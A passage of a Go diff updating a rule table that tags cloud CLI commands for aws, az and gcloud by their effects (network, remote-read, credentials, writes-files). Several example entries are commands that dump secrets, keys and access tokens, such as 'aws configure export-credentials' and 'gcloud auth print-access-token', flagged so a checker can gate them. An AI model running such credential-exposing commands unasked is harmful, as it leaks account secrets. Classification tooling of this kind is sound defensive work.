 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"configure", "export-credentials"}, Values: []string{"--profile", "--format"}, Always: []string{"network", "credentials"}, Examples: []string{"aws configure export-credentials --profile prod --format env"}}}}
 }
 
-func effectsCloudL183() Pack {
+func effectsCloudL238() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"configure"}, Values: []string{"--profile"}, Always: []string{"writes-files"}, Examples: []string{"aws configure", "aws configure set region eu-west-1", "aws configure sso"}, Counter: []string{"aws configure list"}}}}
 }
 
-func effectsCloudL191() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"s3", "ls"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--recursive", "--human-readable", "--summarize"}, Values: []string{"--profile", "--region", "--output", "--query", "--page-size", "--request-payer", "--bucket-name-prefix", "--bucket-region"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network"}, Examples: []string{"aws s3 ls", "aws s3 ls s3://bucket/logs/ --recursive --human-readable"}}}}
+func effectsCloudL246() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"s3", "ls"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--recursive", "--human-readable", "--summarize"}, Values: []string{"--profile", "--region", "--output", "--query", "--page-size", "--request-payer", "--bucket-name-prefix", "--bucket-region"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"remote-read"}, Examples: []string{"aws s3 ls", "aws s3 ls s3://bucket/logs/ --recursive --human-readable"}}}}
 }
 
-func effectsCloudL204() Pack {
+func effectsCloudL259() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"s3", "cp|sync"}, Flags: []string{"--debug", "--no-verify-ssl", "--no-paginate", "--no-sign-request", "--no-cli-pager", "--quiet", "--only-show-errors", "--no-progress", "--follow-symlinks", "--no-follow-symlinks", "--no-guess-mime-type", "--force-glacier-transfer", "--ignore-glacier-warnings", "--exact-timestamps", "--size-only"}, Values: []string{"--profile", "--region", "--output", "--query", "--include", "--exclude", "--acl", "--storage-class", "--sse", "--sse-kms-key-id", "--sse-c", "--sse-c-key", "--sse-c-copy-source", "--sse-c-copy-source-key", "--content-type", "--cache-control", "--content-disposition", "--content-encoding", "--content-language", "--expires", "--metadata", "--metadata-directive", "--grants", "--website-redirect", "--source-region", "--request-payer", "--expected-size", "--page-size", "--checksum-mode", "--checksum-algorithm", "--copy-props"}, Effects: map[string]string{"--delete": "dest-delete", "--dryrun": "dry-run", "--endpoint-url": "url", "--recursive": "recursive"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"aws s3 cp build/ s3://bucket/site --recursive", "aws s3 cp s3://bucket/db.sql.gz .", "aws s3 sync dist/ s3://bucket/ --delete"}}}}
 }
 
-func effectsCloudL226() Pack {
+func effectsCloudL281() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"s3", "mv"}, Flags: []string{"--quiet", "--only-show-errors", "--no-progress", "--follow-symlinks", "--no-follow-symlinks"}, Values: []string{"--profile", "--region", "--include", "--exclude", "--acl", "--storage-class", "--sse", "--content-type"}, Effects: map[string]string{"--dryrun": "dry-run", "--endpoint-url": "url", "--recursive": "recursive"}, Operands: "delete", Last: "write", Always: []string{"network"}, Examples: []string{"aws s3 mv report.csv s3://bucket/reports/"}}}}
 }
 
-func effectsCloudL240() Pack {
+func effectsCloudL295() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"aws"}, Sub: []string{"s3", "rm|rb|mb|website"}, Flags: []string{"--recursive", "--force", "--quiet", "--only-show-errors", "--dryrun"}, Values: []string{"--profile", "--region", "--include", "--exclude", "--index-document", "--error-document"}, Effects: map[string]string{"--endpoint-url": "url"}, Always: []string{"network"}, Examples: []string{"aws s3 rm s3://bucket/tmp/ --recursive", "aws s3 mb s3://new-bucket"}}}}
 }
 
-func effectsCloudL252() Pack {
+func effectsCloudL307() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Flags: []string{"--debug", "--only-show-errors", "--verbose"}, Values: []string{"-o", "--output", "--query", "--subscription"}, Operands: "subcommand", Env: map[string]string{"AZURE_CONFIG_DIR": "exec", "AZURE_EXTENSION_DIR": "exec"}, Always: []string{"network"}, Examples: []string{"az", "az vm create -n x -g rg --image Ubuntu2204"}, Counter: []string{"az group list"}}}}
 }
 
-func effectsCloudL265() Pack {
+func effectsCloudL320() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "keys", "list"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--type"}, Always: []string{"network", "credentials"}, Examples: []string{"az cosmosdb keys list -g rg -n db", "az functionapp keys list -g rg -n fn"}}}}
 }
 
-func effectsCloudL272() Pack {
+func effectsCloudL327() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "keys", "list"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--account-name", "--namespace-name"}, Always: []string{"network", "credentials"}, Examples: []string{"az storage account keys list -g rg -n acct"}}}}
 }
 
-func effectsCloudL280() Pack {
+func effectsCloudL335() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "*", "keys", "list"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--namespace-name", "--eventhub-name", "--queue-name", "--topic-name"}, Always: []string{"network", "credentials"}, Examples: []string{"az servicebus namespace authorization-rule keys list -g rg --namespace-name ns -n RootManageSharedAccessKey"}}}}
 }
 
-func effectsCloudL288() Pack {
+func effectsCloudL343() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "secret|credential|admin-key|query-key", "show"}, Flags: []string{"--show-values"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--vault-name", "--id", "--version", "--service-name"}, Always: []string{"network", "credentials"}, Examples: []string{"az keyvault secret show --vault-name kv -n db-password", "az acr credential show -n reg", "az search admin-key show -g rg --service-name s"}}}}
 }
 
-func effectsCloudL299() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "secret", "list"}, Flags: []string{"--include-managed", "--only-show-errors"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--vault-name", "--id", "--maxresults"}, Effects: map[string]string{"--show-values": "credentials"}, Always: []string{"network"}, Examples: []string{"az keyvault secret list --vault-name kv", "az containerapp secret list -g rg -n app --show-values"}}}}
+func effectsCloudL354() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "secret", "list"}, Flags: []string{"--include-managed", "--only-show-errors"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--vault-name", "--id", "--maxresults"}, Effects: map[string]string{"--show-values": "credentials"}, Always: []string{"remote-read"}, Examples: []string{"az keyvault secret list --vault-name kv", "az containerapp secret list -g rg -n app --show-values"}}}}
 }
 
-func effectsCloudL310() Pack {
+func effectsCloudL365() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "config", "appsettings|connection-string", "list"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--slot"}, Always: []string{"network", "credentials"}, Examples: []string{"az webapp config appsettings list -g rg -n app"}}}}
 }
 
-func effectsCloudL318() Pack {
+func effectsCloudL373() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"account", "show|list"}, Flags: []string{"--all", "--only-show-errors"}, Values: []string{"-o", "--output", "--query", "--subscription", "-n", "--name"}, Effects: map[string]string{"--refresh": "network"}, Examples: []string{"az account show", "az account list -o table"}}}}
 }
 
-func effectsCloudL327() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "list|show"}, Flags: []string{"--debug", "--only-show-errors", "--verbose", "--show-details", "-d"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--ids", "-l", "--location"}, Always: []string{"network"}, Examples: []string{"az group list", "az vm show -g rg -n vm1"}}}}
+func effectsCloudL382() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "list|show"}, Flags: []string{"--debug", "--only-show-errors", "--verbose", "--show-details", "-d"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--ids", "-l", "--location"}, Always: []string{"remote-read"}, Examples: []string{"az group list", "az vm show -g rg -n vm1"}}}}
 }
 
-func effectsCloudL336() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "list|show"}, Flags: []string{"--debug", "--only-show-errors", "--verbose", "--show-details", "-d", "--all"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--ids", "-l", "--location", "--vault-name", "--account-name", "--server", "--plan"}, Always: []string{"network"}, Examples: []string{"az aks nodepool list -g rg --cluster-name c", "az storage account list -o table", "az storage blob list --account-name acct -c logs"}}}}
+func effectsCloudL391() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "list|show"}, Flags: []string{"--debug", "--only-show-errors", "--verbose", "--show-details", "-d", "--all"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--ids", "-l", "--location", "--vault-name", "--account-name", "--server", "--plan"}, Always: []string{"remote-read"}, Examples: []string{"az aks nodepool list -g rg --cluster-name c", "az storage account list -o table", "az storage blob list --account-name acct -c logs"}}}}
 }
 
-func effectsCloudL346() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "*", "list|show"}, Flags: []string{"--debug", "--only-show-errors", "--verbose", "--all"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--ids", "--account-name", "--container-name", "-c", "--prefix", "--auth-mode"}, Always: []string{"network"}, Examples: []string{"az network vnet subnet list -g rg --vnet-name v"}}}}
+func effectsCloudL401() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "*", "list|show"}, Flags: []string{"--debug", "--only-show-errors", "--verbose", "--all"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--ids", "--account-name", "--container-name", "-c", "--prefix", "--auth-mode"}, Always: []string{"remote-read"}, Examples: []string{"az network vnet subnet list -g rg --vnet-name v"}}}}
 }
 
-func effectsCloudL355() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "*", "*", "list|show"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name"}, Always: []string{"network"}, Examples: []string{"az network application-gateway ssl-policy predefined list"}}}}
+func effectsCloudL410() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"*", "*", "*", "*", "list|show"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name"}, Always: []string{"remote-read"}, Examples: []string{"az network application-gateway ssl-policy predefined list"}}}}
 }
 
-func effectsCloudL362() Pack {
+func effectsCloudL417() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"account", "get-access-token"}, Values: []string{"-o", "--output", "--query", "--subscription", "--resource", "--resource-type", "--scope", "--tenant"}, Always: []string{"network", "credentials"}, Examples: []string{"az account get-access-token --resource https://management.azure.com"}}}}
 }
 
-func effectsCloudL369() Pack {
+func effectsCloudL424() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"storage|webapp|functionapp|redis|cosmosdb", "show-connection-string|list-keys|list-connection-strings|list-publishing-credentials|list-publishing-profiles"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name"}, Always: []string{"network", "credentials"}, Examples: []string{"az redis list-keys -g rg -n cache"}}}}
 }
 
-func effectsCloudL376() Pack {
+func effectsCloudL431() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"storage|webapp|functionapp", "account|deployment", "show-connection-string|list-publishing-credentials|list-publishing-profiles"}, Values: []string{"-o", "--output", "--query", "--subscription", "-g", "--resource-group", "-n", "--name", "--xml"}, Always: []string{"network", "credentials"}, Examples: []string{"az storage account show-connection-string -g rg -n acct", "az webapp deployment list-publishing-profiles -g rg -n app"}}}}
 }
 
-func effectsCloudL384() Pack {
+func effectsCloudL439() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"acr", "login"}, Values: []string{"-n", "--name", "-u", "--username", "-p", "--password", "--subscription", "-o", "--output", "--query"}, Effects: map[string]string{"--expose-token": "credentials", "-t": "credentials"}, Always: []string{"network", "writes-files"}, Examples: []string{"az acr login -n registry", "az acr login -n registry --expose-token"}}}}
 }
 
-func effectsCloudL394() Pack {
+func effectsCloudL449() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"aks", "get-credentials"}, Flags: []string{"--admin", "--overwrite-existing", "--public-fqdn"}, Values: []string{"-g", "--resource-group", "-n", "--name", "--context", "--format", "--subscription"}, Effects: map[string]string{"--file": "write", "-f": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"az aks get-credentials -g rg -n prod"}}}}
 }
 
-func effectsCloudL405() Pack {
+func effectsCloudL460() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"login|logout|version|upgrade"}, Flags: []string{"--use-device-code", "--identity", "--allow-no-subscriptions", "--all", "--yes", "-y"}, Values: []string{"-u", "--username", "-p", "--password", "-t", "--tenant", "--scope", "--service-principal", "-o", "--output", "--query"}, Always: []string{"network", "writes-files"}, Examples: []string{"az login", "az login --use-device-code", "az version"}}}}
 }
 
-func effectsCloudL414() Pack {
+func effectsCloudL469() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"config", "get"}, Flags: []string{"--local"}, Values: []string{"-o", "--output", "--query"}, Examples: []string{"az config get core.output"}}}}
 }
 
-func effectsCloudL421() Pack {
+func effectsCloudL476() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"az"}, Sub: []string{"storage", "blob", "upload|upload-batch|download|download-batch"}, Flags: []string{"--overwrite", "--no-progress", "--dryrun"}, Values: []string{"--account-name", "--account-key", "--connection-string", "--sas-token", "-c", "--container-name", "-n", "--name", "--pattern", "--auth-mode", "--subscription", "-o", "--output"}, Effects: map[string]string{"--destination": "write", "--file": "upload", "--source": "upload", "-d": "write", "-f": "upload", "-s": "upload"}, Always: []string{"network"}, Examples: []string{"az storage blob upload --account-name a -c c -n x.txt -f x.txt", "az storage blob download-batch -d out/ -s logs --account-name a"}}}}
 }
 
-func effectsCloudL440() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Flags: []string{"--log-http", "-q", "--quiet", "--user-output-enabled", "--no-user-output-enabled"}, Values: []string{"--account", "--billing-project", "--configuration", "--flatten", "--format", "--impersonate-service-account", "--project", "--trace-token", "--verbosity", "--access-token-file"}, Effects: map[string]string{"--flags-file": "exec"}, Operands: "subcommand", Env: map[string]string{"CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE": "exec", "CLOUDSDK_CONFIG": "exec", "CLOUDSDK_PYTHON": "exec", "GOOGLE_APPLICATION_CREDENTIALS": "exec"}, Always: []string{"network"}, Examples: []string{"gcloud", "gcloud compute instances create vm1 --zone us-central1-a", "gcloud help"}, Counter: []string{"gcloud projects list"}}}}
+func effectsCloudL495() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Flags: []string{"--log-http", "-q", "--quiet", "--user-output-enabled", "--no-user-output-enabled"}, Values: []string{"--account", "--billing-project", "--configuration", "--flatten", "--format", "--impersonate-service-account", "--project", "--trace-token", "--verbosity", "--access-token-file"}, Effects: map[string]string{"--flags-file": "exec"}, Operands: "subcommand", Env: map[string]string{"CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE": "exec", "CLOUDSDK_CONFIG": "exec", "CLOUDSDK_PYTHON": "exec", "GOOGLE_APPLICATION_CREDENTIALS": "exec"}, Always: []string{"network"}, HelpFlags: []string{"--help", "-h"}, Examples: []string{"gcloud", "gcloud compute instances create vm1 --zone us-central1-a", "gcloud help"}, Counter: []string{"gcloud projects list"}}}}
 }
 
-func effectsCloudL457() Pack {
+func effectsCloudL513() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"auth", "print-access-token|print-identity-token"}, Flags: []string{"--log-http", "-q", "--quiet", "--include-email", "--token-format"}, Values: []string{"--account", "--configuration", "--impersonate-service-account", "--project", "--verbosity", "--audiences", "--lifetime", "--scopes"}, Always: []string{"network", "credentials"}, Examples: []string{"gcloud auth print-access-token", "gcloud auth print-identity-token --audiences https://run.app"}}}}
 }
 
-func effectsCloudL466() Pack {
+func effectsCloudL522() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"auth", "application-default", "print-access-token"}, Values: []string{"--account", "--configuration", "--project", "--verbosity", "--scopes"}, Always: []string{"network", "credentials"}, Examples: []string{"gcloud auth application-default print-access-token"}}}}
 }
 
-func effectsCloudL473() Pack {
+func effectsCloudL529() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"config", "config-helper"}, Flags: []string{"--force-auth-refresh"}, Values: []string{"--format", "--min-expiry", "--configuration", "--account", "--project", "--verbosity"}, Always: []string{"network", "credentials"}, Examples: []string{"gcloud config config-helper --format=json"}}}}
 }
 
-func effectsCloudL481() Pack {
+func effectsCloudL537() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"secrets", "versions", "access"}, Values: []string{"--secret", "--project", "--location", "--format", "--out-file", "--configuration", "--account", "--verbosity", "--impersonate-service-account"}, Always: []string{"network", "credentials"}, Examples: []string{"gcloud secrets versions access latest --secret=db-password"}}}}
 }
 
-func effectsCloudL490() Pack {
+func effectsCloudL546() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"auth|config", "list|get|get-value"}, Flags: []string{"--all", "--filter-account"}, Values: []string{"--format", "--filter", "--configuration", "--verbosity", "--limit", "--sort-by"}, Examples: []string{"gcloud auth list", "gcloud config list", "gcloud config get-value project", "gcloud config get project"}}}}
 }
 
-func effectsCloudL497() Pack {
+func effectsCloudL553() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"info|version"}, Flags: []string{"--anonymize", "--show-log"}, Values: []string{"--format", "--verbosity"}, Effects: map[string]string{"--run-diagnostics": "network"}, Examples: []string{"gcloud info --format='value(config.account)'", "gcloud version"}}}}
 }
 
-func effectsCloudL506() Pack {
+func effectsCloudL562() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"config", "set|unset"}, Flags: []string{"--installation", "-q", "--quiet"}, Values: []string{"--configuration", "--verbosity"}, Always: []string{"writes-files"}, Examples: []string{"gcloud config set project my-proj", "gcloud config unset compute/zone"}}}}
 }
 
-func effectsCloudL514() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"projects|organizations|services|functions|secrets|folders|builds|scheduler|topic|components", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri", "--available", "--enabled", "--only-local-state", "--show-versions", "--show-hidden"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--region", "--location", "--organization", "--folder"}, Always: []string{"network"}, Examples: []string{"gcloud projects list", "gcloud services list --enabled", "gcloud secrets describe db-password"}}}}
-}
-
-func effectsCloudL524() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"*", "*", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--zone", "--zones", "--region", "--regions", "--location", "--cluster", "--instance", "--secret"}, Always: []string{"network"}, Examples: []string{"gcloud compute instances list", "gcloud container clusters describe prod --region us-central1", "gcloud run services list --format json"}}}}
-}
-
-func effectsCloudL535() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"*", "*", "*", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--zone", "--region", "--location", "--cluster", "--iam-account", "--managed-by", "--secret", "--instance"}, Always: []string{"network"}, Examples: []string{"gcloud iam service-accounts keys list --iam-account sa@p.iam.gserviceaccount.com", "gcloud beta run services list"}}}}
-}
-
-func effectsCloudL546() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"*", "*", "*", "*", "list|describe"}, Values: []string{"--account", "--configuration", "--format", "--project", "--verbosity", "--filter", "--limit", "--zone", "--region", "--location", "--cluster"}, Always: []string{"network"}, Examples: []string{"gcloud beta iam service-accounts keys list --iam-account sa@p.iam.gserviceaccount.com"}}}}
-}
-
-func effectsCloudL554() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"container", "clusters", "get-credentials"}, Flags: []string{"--internal-ip", "--dns-endpoint"}, Values: []string{"--zone", "--region", "--location", "--project", "--account", "--configuration", "--verbosity"}, Env: map[string]string{"KUBECONFIG": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"gcloud container clusters get-credentials prod --region us-central1"}}}}
-}
-
-func effectsCloudL564() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"iam", "service-accounts", "keys", "create"}, Values: []string{"--iam-account", "--key-file-type", "--project", "--account", "--configuration", "--verbosity"}, First: "write", Always: []string{"network"}, Examples: []string{"gcloud iam service-accounts keys create key.json --iam-account sa@p.iam.gserviceaccount.com"}}}}
-}
-
-func effectsCloudL572() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"storage", "ls|cat|du|hash|objects|buckets"}, Flags: []string{"-l", "--long", "-L", "--full", "-r", "-R", "--recursive", "-a", "--all-versions", "-b", "--buckets", "-e", "--etag", "-s", "--summarize", "--readable-sizes", "--hex", "--skip-crc32c", "--skip-md5", "--json"}, Values: []string{"--project", "--format", "--range", "--account", "--configuration", "--verbosity"}, Always: []string{"network"}, Examples: []string{"gcloud storage ls gs://bucket/", "gcloud storage cat gs://bucket/config.json"}}}}
+func effectsCloudL570() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"projects|organizations|services|secrets|folders|builds|scheduler|topic|components", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri", "--available", "--enabled", "--only-local-state", "--show-versions", "--show-hidden"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--region", "--location", "--organization", "--folder"}, Always: []string{"remote-read"}, Examples: []string{"gcloud projects list", "gcloud services list --enabled", "gcloud secrets describe db-password"}}}}
 }
 
 func effectsCloudL581() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"storage", "cp|rsync|mv"}, Flags: []string{"-n", "--no-clobber", "-c", "--continue-on-error", "--preserve-posix", "-P", "--skip-unsupported", "--checksums-only", "--no-ignore-symlinks", "--dry-run"}, Values: []string{"--project", "-x", "--exclude", "--content-type", "--cache-control", "--storage-class", "--predefined-acl", "--account", "--configuration", "--verbosity"}, Effects: map[string]string{"--delete-unmatched-destination-objects": "dest-delete", "--recursive": "recursive", "-R": "recursive", "-r": "recursive"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"gcloud storage cp -r dist/ gs://bucket/site/", "gcloud storage rsync gs://bucket/data ./data --recursive"}}}}
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"functions", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri", "--gen2", "--no-gen2", "--v2"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--region"}, Always: []string{"remote-read", "credentials"}, Examples: []string{"gcloud functions describe api --region europe-west1", "gcloud functions list"}}}}
 }
 
-func effectsCloudL598() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"compute|cloud-shell|alpha|beta", "ssh|scp|connect-to-serial-port"}, Always: []string{"network", "runs-code"}, Examples: []string{"gcloud compute ssh vm1 --zone us-central1-a -- uptime"}}}}
+func effectsCloudL590() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"run", "services|jobs|revisions", "describe"}, Flags: []string{"--log-http", "-q", "--quiet"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--region", "--platform"}, Always: []string{"remote-read", "credentials"}, Examples: []string{"gcloud run services describe web --region europe-west1"}}}}
 }
 
-func effectsCloudL604() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"auth", "login|activate-service-account|revoke|configure-docker"}, Flags: []string{"--no-launch-browser", "--no-browser", "--update-adc", "--brief", "--all", "--quiet", "-q"}, Values: []string{"--account", "--project", "--verbosity", "--enable-gdrive-access"}, Effects: map[string]string{"--cred-file": "read", "--key-file": "read"}, Always: []string{"network", "writes-files"}, Examples: []string{"gcloud auth login", "gcloud auth activate-service-account --key-file=sa.json"}}}}
+func effectsCloudL599() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"*", "*", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--zone", "--zones", "--region", "--regions", "--location", "--cluster", "--instance", "--secret"}, Always: []string{"remote-read"}, Examples: []string{"gcloud compute instances list", "gcloud container clusters describe prod --region us-central1", "gcloud run services list --format json"}}}}
 }
 
-func effectsCloudL617() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gsutil"}, Flags: []string{"-D", "-DD", "-m", "-q", "-d"}, Values: []string{"-h", "-i", "-u"}, Effects: map[string]string{"-o": "exec"}, Operands: "subcommand", Env: map[string]string{"BOTO_CONFIG": "exec", "BOTO_PATH": "exec"}, Always: []string{"network"}, Examples: []string{"gsutil", "gsutil acl ch -u x:R gs://b"}, Counter: []string{"gsutil ls gs://bucket"}}}}
+func effectsCloudL610() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"*", "*", "*", "list|describe"}, Flags: []string{"--log-http", "-q", "--quiet", "--uri"}, Values: []string{"--account", "--configuration", "--format", "--impersonate-service-account", "--project", "--verbosity", "--filter", "--limit", "--page-size", "--sort-by", "--zone", "--region", "--location", "--cluster", "--iam-account", "--managed-by", "--secret", "--instance"}, Always: []string{"remote-read"}, Examples: []string{"gcloud iam service-accounts keys list --iam-account sa@p.iam.gserviceaccount.com", "gcloud beta run services list"}}}}
 }
 
-func effectsCloudL631() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"gsutil"}, Sub: []string{"ls|cat|du|stat|hash|version"}, Flags: []string{"-l", "-L", "-b", "-a", "-e", "-R", "-r", "-d", "-0", "-c", "-s", "-m"}, Values: []string{"-p", "-X", "-h"}, Always: []string{"network"}, Examples: []string{"gsutil ls gs://bucket", "gsutil cat gs://bucket/a.txt", "gsutil du -s gs://bucket", "gsutil hash local.bin"}}}}
+func effectsCloudL621() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"*", "*", "*", "*", "list|describe"}, Values: []string{"--account", "--configuration", "--format", "--project", "--verbosity", "--filter", "--limit", "--zone", "--region", "--location", "--cluster"}, Always: []string{"remote-read"}, Examples: []string{"gcloud beta iam service-accounts keys list --iam-account sa@p.iam.gserviceaccount.com"}}}}
+}
+
+func effectsCloudL629() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"container", "clusters", "get-credentials"}, Flags: []string{"--internal-ip", "--dns-endpoint"}, Values: []string{"--zone", "--region", "--location", "--project", "--account", "--configuration", "--verbosity"}, Env: map[string]string{"KUBECONFIG": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"gcloud container clusters get-credentials prod --region us-central1"}}}}
 }
 
 func effectsCloudL639() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"iam", "service-accounts", "keys", "create"}, Values: []string{"--iam-account", "--key-file-type", "--project", "--account", "--configuration", "--verbosity"}, First: "write", Always: []string{"network"}, Examples: []string{"gcloud iam service-accounts keys create key.json --iam-account sa@p.iam.gserviceaccount.com"}}}}
+}
+
+func effectsCloudL647() Pack {
